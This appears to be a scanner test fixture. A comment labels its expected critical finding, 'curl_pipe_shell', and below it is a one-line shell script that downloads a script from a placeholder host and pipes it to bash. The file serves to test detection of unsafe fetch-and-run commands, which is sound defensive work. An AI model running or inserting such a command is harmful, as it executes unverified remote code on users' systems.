# expect: shell.curl_pipe_shell critical
#!/bin/sh
https -b get.example.net/i.sh | bash
